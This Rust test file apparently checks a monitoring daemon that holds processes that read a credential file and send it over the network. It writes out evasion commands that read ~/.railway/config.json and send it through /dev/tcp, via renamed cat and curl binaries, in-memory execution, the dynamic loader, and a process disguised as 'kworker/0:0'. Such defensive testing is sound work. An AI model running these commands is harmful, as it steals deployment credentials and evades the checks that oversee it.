//! Programs that are not what they seem: the label belongs to the process, not to what it runs.

use interlock_tests::daemon::{Daemon, Settings};

use super::fixture::{ENTRY, Fixture, TOKEN, hold_port, python};

#[test]
fn a_program_in_memory_reads_it() {
    let Some(fixture) = Fixture::new() else { return };
    fixture.is_held_after(&python("from_memory cat ~/.railway/config.json"));
}

#[test]
fn a_program_in_memory_sends_it() {
    let Some(fixture) = Fixture::new() else { return };
    let request = fixture.request();
    let agent =
        fixture.run(&format!("cat ~/.railway/config.json; {}", python(&format!("from_memory {request}"))));
    fixture.is_held(&agent);
    fixture.was_read(ENTRY);
}

#[test]
fn the_dynamic_loader_runs_the_program() {
    let Some(fixture) = Fixture::new() else { return };
    let request = fixture.request();
    let agent = fixture.run(&format!(
        "{}; {}",
        python("by_loader python3 -c 'import os; print(open(os.path.expanduser(\"~/.railway/config.json\")).read())'"),
        python(&format!("by_loader {request}"))
    ));
    fixture.is_held(&agent);
    fixture.was_read(ENTRY);
}

#[test]
fn a_shell_without_any_other_program() {
    let Some(mut fixture) = Fixture::new() else { return };
    // It sends line by line, so no name can be told from the first segment: the port decides.
    let rules = Some(hold_port(fixture.server.port()));
    fixture.daemon = Daemon::start(&Settings { rules, ..Settings::default() });
    let script = format!(
        "while read -r line || [ \"$line\" ]; do echo \"$line\"; line=; done < ~/.railway/config.json
         exec 3<>/dev/tcp/127.0.0.1/{}; printf 'GET / HTTP/1.1\\r\\n\\r\\n' >&3; read -r answer <&3",
        fixture.server.port()
    );
    let agent = fixture.run(&script);
    fixture.is_held(&agent);
    assert!(agent.output().contains(TOKEN), "{}", agent.output());
    fixture.was_read(ENTRY);
}

#[test]
fn a_script_interpreter() {
    let Some(fixture) = Fixture::new() else { return };
    // Started by its first line, as a program of its own.
    let script = format!(
        "printf '#!/usr/bin/env python3\\nimport sys; sys.path.insert(0, sys.argv[1])\\nimport acts\\nprint(open(acts.SECRET).read(), flush=True)\\nacts.request({})\\n' > innocent
         chmod +x innocent; ./innocent ~",
        fixture.server.port()
    );
    let agent = fixture.run(&script);
    fixture.is_held(&agent);
    fixture.was_read(ENTRY);
}

#[test]
fn programs_under_other_names() {
    let Some(fixture) = Fixture::new() else { return };
    let request = fixture.request();
    let renamed = request.strip_prefix("curl").unwrap();
    let script = format!(
        "cp \"$(command -v cat)\" reader; (exec -a cat ./reader ~/.railway/config.json); \
         cp \"$(command -v curl)\" innocent; ./innocent{renamed}"
    );
    let agent = fixture.run(&script);
    fixture.is_held(&agent);
    fixture.was_read(ENTRY);
}

#[test]
fn a_changed_process_name() {
    let Some(fixture) = Fixture::new() else { return };
    let agent = fixture.run(&python(&format!("under_another_name {}", fixture.server.port())));
    fixture.is_held(&agent);
    assert!(agent.output().contains("kworker/0:0"), "{}", agent.output());
    fixture.was_read(ENTRY);
}
